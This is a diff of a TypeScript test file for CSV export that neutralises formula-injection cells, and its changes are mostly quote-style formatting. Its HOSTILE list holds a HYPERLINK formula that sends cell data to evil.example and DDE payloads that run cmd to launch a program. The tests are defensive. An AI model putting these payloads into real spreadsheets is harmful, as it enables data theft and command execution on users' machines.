@@ -14,9 +14,9 @@ import { BookBuilder } from '../support/builders';
 // What a customer, a teammate or an imported file can put in a cell that a spreadsheet runs.
 export const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!E2',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!E2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
@@ -56,7 +56,7 @@ describe('CSV cells safe to open in a spreadsheet', () => {
   it('restores exactly what it was given, whatever the text (random cells)', () => {
     const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '\n', '＝', 'a', '1', '.', ' ', '"'];
     let seed = 7;
-    const random = (): number => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
+    const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
     for (let n = 0; n < 5000; n++) {
       const text = Array.from({ length: 1 + Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
       const safe = neutraliseCell(text);
@@ -72,7 +72,10 @@ describe('CSV cells safe to open in a spreadsheet', () => {
       const cells = cellsOf(csv);
       const running = cells.filter((cell) => RUNS_AS_FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
       assert.deepEqual(running, [], `${kind}: cells that would run`);
-      assert.ok(cells.some((cell) => cell.startsWith("'")), `${kind} has neutralised cells`);
+      assert.ok(
+        cells.some((cell) => cell.startsWith("'")),
+        `${kind} has neutralised cells`,
+      );
     }
     const customers = exportCsv('customers', book);
     assert.ok(customers.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'), 'quoted, with its inner quotes doubled');
@@ -125,7 +128,7 @@ describe('CSV cells safe to open in a spreadsheet', () => {
       expected.customers = expected.customers.map(asImported([1, 2, 3, 6, 7])).sort();
       expected.purchases = expected.purchases.map(asImported([])).sort();
       expected.incidents = expected.incidents.map(asImported([1, 2])).sort();
-      assert.ok(JSON.stringify(pick(store.file)).includes('\'=already quoted once'), 'a quote that was in the text stays');
+      assert.ok(JSON.stringify(pick(store.file)).includes("'=already quoted once"), 'a quote that was in the text stays');
       assert.deepEqual(pick(store.file), expected);
     });
   });
